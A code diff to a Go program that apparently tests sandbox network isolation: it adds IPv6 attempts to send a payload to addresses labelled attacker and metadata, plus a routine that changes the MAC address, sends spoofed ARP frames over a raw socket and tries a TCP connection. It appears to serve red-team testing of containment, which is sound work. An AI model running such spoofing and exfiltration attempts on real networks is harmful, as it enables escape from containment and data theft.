@@ -10,6 +10,7 @@ package main
 
 import (
 	"encoding/binary"
+	"errors"
 	"fmt"
 	"net"
 	"net/netip"
@@ -270,6 +271,31 @@ func routes(addr, payload string) {
 // eth0 link-local, ULA and global addresses and a default route, then UDP,
 // TCP and ICMPv6 echo to link-local, ULA and global destinations.
 func v6(payload string) {
+	// First over the IPv6 the sandbox was given, if any (a host with
+	// IPv6): straight to the attacker, the shared edge and the metadata
+	// address, TCP and UDP.
+	if l, err := eth0(); err == nil {
+		if as, _ := netlink.AddrList(l, netlink.FAMILY_V6); len(as) > 0 {
+			for _, d := range []string{"2001:db8::66", "2001:db8::10", "fd00:ec2::254"} {
+				tc, err := net.DialTimeout("tcp6", net.JoinHostPort(d, "80"), time.Second)
+				if err == nil {
+					fmt.Fprintf(tc, "GET /flag?n=%s HTTP/1.0\r\n\r\n", payload)
+					tc.SetReadDeadline(time.Now().Add(time.Second))
+					b := make([]byte, 200)
+					n, _ := tc.Read(b)
+					fmt.Printf("assigned tcp6 to %s read %q\n", d, b[:n])
+					tc.Close()
+				}
+				step("assigned tcp6 to "+d, err)
+				c, err := net.Dial("udp6", net.JoinHostPort(d, "9999"))
+				if err == nil {
+					_, err = c.Write([]byte(payload))
+					c.Close()
+				}
+				step("assigned udp6 to "+d, err)
+			}
+		}
+	}
 	for _, k := range []string{"all", "default", "eth0"} {
 		step("enable ipv6 "+k, os.WriteFile("/proc/sys/net/ipv6/conf/"+k+"/disable_ipv6", []byte("0"), 0))
 	}
@@ -333,4 +359,108 @@ func widenPing() error {
 		}
 	}
 	return err
+}
+
+// macChange: mac MAC ADDR PAYLOAD — RT-43: root changes eth0's MAC
+// address (as any root in its own netns, or a VM guest, may), forgets its
+// neighbours, announces its address at the new MAC with hand-built ARP
+// (raw frames, where it may open a packet socket: also one with the
+// assigned MAC as frame source, and a request for another address), then
+// tries plain TCP to ADDR with PAYLOAD. The MAC is put back at the end.
+func macChange(newMAC, addr, payload string) {
+	l, err := eth0()
+	if err != nil {
+		step("eth0", err)
+		return
+	}
+	old := l.Attrs().HardwareAddr
+	mac, err := net.ParseMAC(newMAC)
+	if err != nil {
+		step("parse mac", err)
+		return
+	}
+	var self, gw net.IP
+	if as, err := netlink.AddrList(l, netlink.FAMILY_V4); err == nil && len(as) > 0 {
+		self = as[0].IP.To4()
+	}
+	if rs, err := netlink.RouteList(l, netlink.FAMILY_V4); err == nil {
+		for _, r := range rs {
+			if r.Gw != nil {
+				gw = r.Gw.To4()
+			}
+		}
+	}
+	routes, _ := netlink.RouteList(l, netlink.FAMILY_V4)
+	err = netlink.LinkSetHardwareAddr(l, mac)
+	if errors.Is(err, unix.EBUSY) {
+		// Not changeable while up: down, change, up, routes back.
+		netlink.LinkSetDown(l)
+		err = netlink.LinkSetHardwareAddr(l, mac)
+		netlink.LinkSetUp(l)
+		for _, r := range routes {
+			netlink.RouteReplace(&r)
+		}
+	}
+	step("set mac "+newMAC, err)
+	defer func() {
+		step("restore mac", netlink.LinkSetHardwareAddr(l, old))
+		flushNeigh(l)
+	}()
+	flushNeigh(l)
+	if fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL))); err != nil {
+		step("packet socket", err)
+	} else if self == nil || gw == nil {
+		unix.Close(fd)
+		step("addresses", fmt.Errorf("no address or gateway on eth0"))
+	} else {
+		to := &unix.SockaddrLinklayer{Ifindex: l.Attrs().Index, Halen: 6}
+		copy(to.Addr[:], []byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff})
+		bcast := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
+		other := net.IP{self[0], self[1], self[2], self[3] ^ 0x80}
+		for _, f := range []struct {
+			what string
+			b    []byte
+		}{
+			{"arp announcement at the new mac", arpFrame(bcast, mac, 2, mac, self, bcast, self)},
+			{"arp announcement at the new mac, frame from the assigned mac", arpFrame(bcast, old, 2, mac, self, bcast, self)},
+			{"gratuitous arp request at the new mac, frame from the assigned mac", arpFrame(bcast, old, 1, mac, self, nil, self)},
+			{"arp request for " + other.String(), arpFrame(bcast, old, 1, old, self, nil, other)},
+			{"arp request for the gateway from " + other.String(), arpFrame(bcast, old, 1, old, other, nil, gw)},
+		} {
+			step(f.what, unix.Sendto(fd, f.b, 0, to))
+		}
+		unix.Close(fd)
+	}
+	c, err := net.DialTimeout("tcp4", addr, 2*time.Second)
+	if err == nil {
+		fmt.Fprintf(c, "GET /flag?n=%s HTTP/1.0\r\nHost: %s\r\n\r\n", payload, addr)
+		c.SetReadDeadline(time.Now().Add(2 * time.Second))
+		b := make([]byte, 200)
+		n, _ := c.Read(b)
+		fmt.Printf("read %q\n", b[:n])
+		c.Close()
+		fmt.Println("CONNECTED with the new mac")
+	} else {
+		fmt.Println("NOCONN", err)
+	}
+}
+
+func flushNeigh(l netlink.Link) {
+	ns, _ := netlink.NeighList(l.Attrs().Index, netlink.FAMILY_V4)
+	for _, n := range ns {
+		netlink.NeighDel(&n)
+	}
+}
+
+func htons(v uint16) uint16 { return v<<8 | v>>8 }
+
+// arpFrame builds an Ethernet/IPv4 ARP frame.
+func arpFrame(dst, src net.HardwareAddr, op uint16, sha net.HardwareAddr, spa net.IP, tha net.HardwareAddr, tpa net.IP) []byte {
+	if tha == nil {
+		tha = make(net.HardwareAddr, 6)
+	}
+	f := append(append(append([]byte{}, dst...), src...), 0x08, 0x06)
+	f = append(f, 0, 1, 8, 0, 6, 4, byte(op>>8), byte(op))
+	f = append(append(append(append(f, sha...), spa.To4()...), tha...), tpa.To4()...)
+	return append(f, make([]byte, 18)...)
 }
